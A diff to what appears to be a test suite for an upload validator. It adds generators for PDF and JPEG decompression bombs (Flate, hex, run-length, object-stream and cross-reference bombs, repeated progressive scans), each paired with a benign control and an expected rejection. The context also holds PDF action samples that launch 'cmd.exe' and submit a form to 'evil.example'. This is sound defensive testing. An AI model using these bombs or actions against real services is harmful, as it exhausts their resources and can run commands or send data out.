@@ -161,6 +161,78 @@ def many_objects(count: int) -> bytes:
     return numbered([b"<</Type/Catalog/Pages 2 0 R>>", *PAGE, *[b"null"] * (count - 3)])
 
 
+def with_streams(count: int, filters: object, packed: bytes) -> Callable[[Pdf], object]:
+    """So many packed streams beside the pages."""
+
+    def change(document: Pdf) -> None:
+        for number in range(count):
+            stream = Stream(document, b"")
+            stream.write(packed, filter=filters)
+            document.Root[f"/X{number}"] = document.make_indirect(stream)
+
+    return change
+
+
+def bomb(size: int) -> bytes:
+    return zlib.compress(bytes(size), 9)
+
+
+def in_hex(size: int) -> Callable[[Pdf], object]:
+    """A bomb that is written in letters first."""
+    return with_streams(1, Array([Name.ASCIIHexDecode, Name.FlateDecode]), bomb(size).hex().encode() + b">")
+
+
+def runs(size: int) -> Callable[[Pdf], object]:
+    """Two bytes for 128."""
+    return with_streams(1, Name.RunLengthDecode, b"\x81\0" * (size // 128) + b"\x80")
+
+
+def lzw_words(count: int) -> bytes:
+    """LZW (ISO 32000-1 §7.4.4) of one letter and words each one letter longer than the one before, up to 3,000 of them."""
+    bits, known = f"{256:09b}{65:09b}", 258
+    for _ in range(count):
+        known += 1
+        bits += f"{known - 1:0{max(9, (known + 0).bit_length())}b}"
+    bits += f"{257:0{max(9, (known + 2).bit_length())}b}"
+    bits += "0" * (-len(bits) % 8)
+    return int(bits, 2).to_bytes(len(bits) // 8, "big")
+
+
+def object_stream_bomb(size: int) -> bytes:
+    """The bomb lies where a reader must unpack it to find the objects (ISO 32000-1 §7.5.7)."""
+    packed = zlib.compress(b"4 0 null" + b" " * size, 9)
+    bodies = [b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>", *PAGE]
+    parts, places, at = [b"%PDF-1.5\n"], [], 9
+    bodies.append(b"<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed))
+    bodies[3] += packed + b"\nendstream"
+    for number, body in zip((1, 2, 3, 5), bodies, strict=True):
+        places.append(at)
+        parts.append(b"%d 0 obj%s endobj\n" % (number, body))
+        at += len(parts[-1])
+    here = [b"\1" + place.to_bytes(4, "big") + b"\0" for place in (*places, at)]
+    rows = b"\0\0\0\0\0\xff" + b"".join(here[:3]) + b"\2\0\0\0\5\0" + b"".join(here[3:])
+    table = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(rows), rows)
+    parts.append(b"6 0 obj%s endobj\nstartxref\n%d\n%%%%EOF\n" % (table, at))
+    return b"".join(parts)
+
+
+def reference_table_bomb(size: int) -> bytes:
+    """The list of places itself is the bomb (ISO 32000-1 §7.5.8)."""
+    packed = bomb(size)
+    head = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj" + PAGE[0] + b" endobj\n"
+    table = b"<</Type/XRef/Size 40000000/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
+    return head + b"4 0 obj" + table + packed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(head)
+
+
+def painted(side: int, times: int) -> bytes:
+    """A progressive photo whose last scan comes so many times: little to send, much to compute."""
+    data = io.BytesIO()
+    Image.new("RGB", (side, side), "#777").save(data, "JPEG", progressive=True, quality=20)
+    photo = data.getvalue()
+    begin = photo.rfind(b"\xff\xda")
+    return photo[:begin] + photo[begin:-2] * times + photo[-2:]
+
+
 SCRIPT = {"/S": Name.JavaScript, "/JS": "app.alert(1)"}
 LAUNCH = {"/S": Name.Launch, "/F": "cmd.exe"}
 SUBMIT = {"/S": Name.SubmitForm, "/F": "https://evil.example"}
@@ -281,5 +353,30 @@ CLASSES: list[tuple[str, str, Callable[[], bytes], str, Callable[[], bytes]]] = 
         "file_broken",
         lambda: picture("JPEG", (900, 900)),
     ),
+    (
+        "many streams, none too large",
+        "pdf",
+        lambda: pdf(with_streams(20, Name.FlateDecode, bomb(95_000_000)), **RAW),
+        "file_broken",
+        lambda: pdf(with_streams(20, Name.FlateDecode, bomb(95)), **RAW),
+    ),
+    (
+        "a bomb in letters",
+        "pdf",
+        lambda: pdf(in_hex(120_000_000), **RAW),
+        "file_broken",
+        lambda: pdf(in_hex(99), **RAW),
+    ),
+    ("runs of a byte", "pdf", lambda: pdf(runs(120_000_000), **RAW), "file_broken", lambda: pdf(runs(9_999), **RAW)),
+    (
+        "a bomb among the objects",
+        "pdf",
+        lambda: object_stream_bomb(99_000_000),
+        "file_broken",
+        lambda: object_stream_bomb(9),
+    ),
+    ("a bomb as table of contents", "pdf", lambda: reference_table_bomb(99_000_000), "file_broken", lambda: pdf()),
+    ("a photo painted again and again", "jpeg", lambda: painted(2_000, 300), "file_broken", lambda: painted(2_000, 1)),
+    ("a progressive photo too large", "jpeg", lambda: painted(5_200, 1), "file_pixels", lambda: painted(900, 1)),
     ("a photo of nothing", "jpeg", lambda: b"\xff\xd8\xff" + bytes(900), "file_broken", lambda: picture("JPEG")),
 ]
